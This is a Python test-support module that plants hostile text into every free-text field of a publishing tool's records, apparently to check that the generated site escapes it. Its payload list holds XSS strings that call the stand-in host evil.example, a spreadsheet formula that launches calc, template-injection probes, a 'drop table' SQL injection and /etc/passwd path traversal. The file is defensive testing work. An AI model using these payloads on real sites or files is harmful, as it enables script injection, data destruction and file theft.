"""The corpus: hostile text for every field that holds text, the fields as the types themselves have them.

A field is known by its path from its type, `Claim.relations.task.does`, and so is the mark that its text carries. What the
record of `tests/sites/valid/every-field` fills is planted; a text field that it does not fill is told by the tests.
"""

import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from pydantic import BaseModel

from briefbook.model.draft import Drafts
from briefbook.model.gone import Gone
from briefbook.model.record import KINDS

OUT = "evil.example"
"""Where the payloads want to go: nobody may ever be asked for it."""
MODELS: tuple[type[BaseModel], ...] = (*(model for _, model in KINDS.values()), Gone, Drafts)

# `MARK` becomes the field's own. No capital and no digit: to the checks those would be names and figures.
PAYLOADS = (
    "=hyperlink('//evil.example/MARK') =cmd|' /c calc'!a",
    "@sum(MARK) +MARK -MARK",
    "<MARK a=b><script>fetch('//evil.example/MARK')</script>",
    "<img src=//evil.example/MARK onerror=alert('MARK')>",
    "\"><svg onload=alert('MARK')><image href=//evil.example/MARK></svg>",
    "'><meta http-equiv=refresh content='-;url=//evil.example/MARK'>",
    "</title></style></textarea></script></pre><iframe src=//evil.example/MARK></iframe>",
    "<base href=//evil.example/MARK><link rel=stylesheet href=//evil.example/MARK.css>",
    "<a href='javascript:alert()' style='background:url(//evil.example/MARK)' onfocus=alert() autofocus>x</a>",
    "javascript:alert('MARK') vbscript:MARK data:text/html,<script>MARK</script>",
    "]]><!--<x:script xmlns:x='//evil.example/xhtml'>MARK</x:script><![cdata[ <!doctype MARK [<!entity x 'y'>]> &MARK; -->",
    "{{ 'MARK' ~ 'ran' }} {% raw %} {# MARK #} ${'MARK'+'ran'} <%= 'MARK'+'ran' %> #(\"MARK\"+\"ran\")",
    '#read("/etc/passwd") #import "/etc/passwd": * #eval("MARK") #link("javascript:MARK")[x] $ #{ ] " @MARK <MARK> \\',
    "[x](javascript:alert`MARK`) ![y](//evil.example/MARK) <javascript:MARK> [x]: javascript:MARK",
    "``` ~~~ `MARK` `` <MARK> `` | MARK | *a* _b_ {: onclick=MARK() } {#MARK} {.MARK onload=MARK}",
    "x\n# MARK\n\n<MARK>\n\n- MARK\n\n    MARK\n\nset-cookie: MARK",
    "&lt;script&gt;MARK&lt;/script&gt; &lt;img src=x onerror=MARK()&gt; &amp;lt;MARK&amp;gt;",
    "} @online{MARK, title={x}} \\input{MARK} \\href{javascript:MARK}{x} %MARK ~ ^ & #",
    "'); drop table claims; -- MARK \"; attach 'MARK' as x;",
    "../../MARK/..\\..\\MARK file:///etc/MARK //evil.example/MARK",
    "MARK" + "w" * 200,
)
ALWAYS = "'\"><img src=//evil.example/MARK onerror=alert()> {{ 'MARK' ~ 'ran' }}\n# MARK\n\n<MARK>\n"
"""Of which each field has at least this."""
ADDRESS = "?MARK='-alert()-'&x=%22%3E%3Cscript%3E&y={{'MARK'~'ran'}}#(MARK)[x]*_`|\\"
DOI = "10.1234/MARK\"'><svg/onload=alert('MARK')>{{'MARK'~'ran'}}&]]>"

STATED = ("Claim.says", "Claim.condition", "Claim.relations", "Claim.note", "Question.asks", "Judgement.says")
_OPENS = re.compile(r"^(?:The|They|Nothing|According|Who|Every|Over|A|Meeting|First|Opening)\b")
_URL, _DOI = r"^https?://[^\s<>\"]+$", r"^10\.[0-9]{4,9}/[!-~]+$"
_DATE = re.compile(r"^\^\(+\[0-9\]\{4\}")
CLOSED: Mapping[str, str] = {
    r"^[a-z0-9]+(-[a-z0-9]+)*$": "an id",
    r"^[a-z]{2,3}(-[A-Za-z0-9]+)*$": "the tag of a language",
    r"^[0-9a-f]{64}$": "a digest",
    r"^[0-9a-f]{16}$": "a digest",
    r"^[A-Z]{2}$": "the code of a country",
    r"^p([1-9]\d{0,4})\.s([1-9]\d{0,4})$": "a place",
    r"^[a-z0-9]+(-[a-z0-9]+)*#(p([1-9]\d{0,4})\.s([1-9]\d{0,4})|published)$": "a place in a source",
    r"^P[0-9]{1,4}[YMWD]$": "a period",
}
"""By its pattern: what a field holds that can hold no free text."""


def closed(pattern: str) -> str:
    """Why a text of this pattern is no field of the corpus; empty where it is one."""
    return "a date" if _DATE.match(pattern) else CLOSED.get(pattern, "")


def _branches(schema: Mapping[str, Any], defs: Mapping[str, Any]) -> Iterator[Mapping[str, Any]]:
    if "$ref" in schema:
        yield from _branches(defs[schema["$ref"].rpartition("/")[2]], defs)
    elif choices := [*schema.get("anyOf", ()), *schema.get("oneOf", ())]:
        if "properties" in schema:
            yield schema
        else:
            for choice in choices:
                yield from _branches(choice, defs)
    else:
        yield schema


def texts_of(model: type[BaseModel]) -> Mapping[str, str]:
    """The pattern of every text of a type, by path; empty where there is none. What has a closed list of values is left out."""
    schema = model.model_json_schema(by_alias=True)
    defs = schema.get("$defs", {})
    found: dict[str, str] = {}

    def walk(part: Mapping[str, Any], path: str) -> None:
        for one in _branches(part, defs):
            if one.get("type") == "string" and not {"enum", "const"} & one.keys():
                found[path] = one.get("pattern", "")
            walk(one["items"], path) if "items" in one else None
            for name, inner in one.get("properties", {}).items():
                walk(inner, f"{path}.{name}")

    walk(schema, model.__name__)
    return found


PATTERNS: Mapping[str, str] = {path: pattern for model in MODELS for path, pattern in texts_of(model).items()}
FIELDS: tuple[str, ...] = tuple(path for path, pattern in PATTERNS.items() if not closed(pattern))
"""Every field of the record and of drafts that holds text as somebody wrote it."""
_NOT_LOCKED = (
    "Drafts", "Gone", "Source.ledger", "Source.foreign", "Source.archived", "Source.withdrawn", "Source.left_out",
    "Entity.aliases", "Entity.nouns", "Entity.adjectives", "Entity.seats", "Entity.spellings", "Entity.located",
    "Claim.relations.event", "Claim.relations.stance", "Edition.note", "Edition.doi",
)  # fmt: skip
"""Fields that nothing of the first edition has, which is the locked one, or that show nothing of it."""
OTHERS = (
    *(f"locked {path}" for path in FIELDS if not path.startswith(_NOT_LOCKED)),
    "article", "mkdocs.yml site_name", "mkdocs.yml site_description", "mkdocs.yml site_author", "mkdocs.yml nav",
    "mkdocs.yml publisher", "mkdocs.yml number", "mkdocs.yml licence", "mkdocs.yml contact", "mkdocs.yml imprint",
    "front title", "front description", "front list", "front other", "heading", "body", "name of a page", "name of a file",
)  # fmt: skip
"""What is hostile beside the record."""


def _letters(number: int) -> str:
    return "abcdefghijklmnop"[number // 16] + "abcdefghijklmnop"[number % 16]


MARKS: Mapping[str, str] = {name: f"qz{_letters(number)}qk" for number, name in enumerate((*FIELDS, *OTHERS))}
"""A word for each, that stands nowhere else."""
MARK = re.compile(r"qz[a-p]{2}qk", re.IGNORECASE)


def payloads(name: str, every: slice = slice(None)) -> str:
    """Some of them, or all, with a field's mark."""
    return " ".join(PAYLOADS[every]).replace("MARK", MARKS[name])


LEAST = 3
"""No field has more than a third of them at once: a summary has its two sheets, and a text its 2,000 characters."""


@dataclass
class Planter:
    """Puts payloads into a record's values: those that stand in one field of several things have a share each."""

    prefix: str = ""
    """Of the names of fields: what is locked has marks of its own."""
    spared: frozenset[str] = frozenset()
    """Fields that keep their words."""
    seen: dict[str, int] = field(default_factory=dict)
    share: dict[str, int] = field(default_factory=dict)

    def planted(self, model: type[BaseModel], items: Sequence[Any]) -> list[Any]:
        """All things of a type, each text longer by a payload."""
        schema = model.model_json_schema(by_alias=True)
        self.share = {}
        for plants in (False, True):  # first only counted
            self.seen = {}
            found = [
                self._value(schema, schema.get("$defs", {}), item, model.__name__, plants=plants) for item in items
            ]
            self.share = self.share or dict(self.seen)
        return found

    def _value(self, schema: Mapping[str, Any], defs: Mapping[str, Any], value: Any, path: str, *, plants: bool) -> Any:
        for one in _branches(schema, defs):
            kind = one.get("type")
            if isinstance(value, dict) and value.keys() <= one.get("properties", {}).keys():
                parts = one["properties"]
                return {k: self._value(parts[k], defs, v, f"{path}.{k}", plants=plants) for k, v in value.items()}
            if isinstance(value, list) and kind == "array":
                if value and all(isinstance(part, str) for part in value) and path in FIELDS:
                    return [*value, self._text(path, "", plants=plants)]
                return [self._value(one["items"], defs, part, path, plants=plants) for part in value]
            if isinstance(value, str) and kind == "string" and path in FIELDS and not {"enum", "const"} & one.keys():
                return self._text(path, value, plants=plants)
        return value

    def _text(self, path: str, value: str, *, plants: bool) -> str:
        if path in self.spared:
            return value or "spared"
        number = self.seen[path] = self.seen.get(path, 0) + 1
        if not plants:
            return value
        name = self.prefix + path if self.prefix + path in MARKS else path
        pattern = PATTERNS[path]
        if pattern == _URL:
            return value + ADDRESS.replace("MARK", MARKS[name])
        if pattern == _DOI:
            return DOI.replace("MARK", MARKS[name])
        step = max(self.share[path], LEAST)
        first = (FIELDS.index(path) + number - 1) % step
        text = f"{payloads(name, slice(first, None, step))} {ALWAYS.replace('MARK', MARKS[name])}"
        return _joined(text, value, stated=path.startswith(STATED))


def _joined(text: str, value: str, *, stated: bool) -> str:
    """Payloads first, as a formula would stand; in a statement they must be no quotations."""
    value = _OPENS.sub(lambda match: match[0].lower(), value)
    whole = f"{text} {value}".strip()
    return whole.replace('"', "'") if stated and whole.count('"') > 1 else whole
